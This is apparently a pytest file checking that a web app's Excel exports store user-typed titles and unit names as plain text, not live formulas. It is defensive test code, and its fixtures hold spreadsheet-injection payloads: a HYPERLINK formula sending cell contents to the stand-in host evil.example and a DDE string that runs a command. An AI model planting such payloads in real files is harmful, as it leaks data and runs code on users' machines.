"""Every export writes user text as text: a liaison's title starting with = + - @ comes out of
the office's .xlsx as the words typed, never as a live formula."""

from io import BytesIO

from openpyxl import Workbook, load_workbook

from campaign.xlsx import FORMULA_STARTS, text_safe, workbook_bytes
from tests.factories import UnitFactory
from tests.rectification.conftest import make_measure, make_problem  # noqa: F401 (fixtures)

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击查看附件")'
DDE = "+cmd|' /C calc'!A0"
AT = "@SUM(1+1)"
MINUS = "-2+3"


def cells(content: bytes):
    workbook = load_workbook(BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula(content: bytes, *texts: str):
    found = cells(content)
    assert not [c.coordinate for c in found if c.data_type == "f"], "a cell came out as a formula"
    for text in texts:
        matching = [c for c in found if c.value == text]
        assert matching, f"{text!r} is missing from the export"
        assert all(c.data_type == "s" and c.quotePrefix for c in matching)


def test_a_title_written_as_a_formula_comes_out_of_the_ledger_as_text(world, make_problem, make_measure, browser_as):  # noqa: F811
    problem = make_problem(title=HYPERLINK)
    make_measure(problem=problem, content=DDE, responsible_person=AT)
    for url in ("/rectification/problems/?export=xlsx", "/rectification/measures/?export=xlsx"):
        response = browser_as(world.office).get(url)
        assert response.status_code == 200
        assert_no_formula(response.content, HYPERLINK, DDE, AT)


def test_unit_names_starting_like_formulas_come_out_of_the_unit_export_as_text(world, browser_as):
    UnitFactory(campaign=world.campaign, name="=1+1", kind="district", head_name=MINUS)
    response = browser_as(world.office).get("/units/?export=xlsx")
    assert_no_formula(response.content, "=1+1", MINUS)


def test_text_safe_keeps_every_formula_start_as_text_and_leaves_other_values_alone():
    workbook = Workbook()
    sheet = workbook.active
    risky = [f"{start}1+1" for start in FORMULA_STARTS]
    sheet.append([*risky, "plain", 42, 3.5, None])
    content = workbook_bytes(workbook)
    row = cells(content)
    assert [c.value for c in row[: len(risky)]] == risky
    assert all(c.data_type == "s" and c.quotePrefix for c in row[: len(risky)])
    assert [c.value for c in row[len(risky) :]][:3] == ["plain", 42, 3.5]
    assert not row[len(risky)].quotePrefix
    assert text_safe(Workbook()).active.max_row == 1  # an empty sheet stays empty
